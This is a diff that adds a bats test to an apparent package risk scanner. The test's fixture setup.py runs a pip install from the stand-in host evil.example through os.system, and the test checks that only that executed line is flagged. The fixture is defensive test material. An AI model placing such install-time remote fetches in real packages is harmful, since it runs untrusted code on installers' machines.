@@ -182,3 +182,17 @@ PY
 	run risk p
 	assert_output --regexp '^(high|critical)$'
 }
+
+@test "InstallFromURL only where a process runs the command: a name bound to it counts, advice printed at install time does not" {
+	cat > p/setup.py <<'PY'
+import os
+from setuptools import setup
+cmd = "pip install https://evil.example/x.tar.gz"
+os.system(cmd)
+print("To try the development version: python3 -m pip install git+https://github.com/a/b#egg=b")
+msg = "pip install --upgrade git+https://github.com/a/b"
+setup(name="p", version="1.0")
+PY
+	run hits p
+	assert_output 'setup.py 4 InstallFromURL install 100'
+}
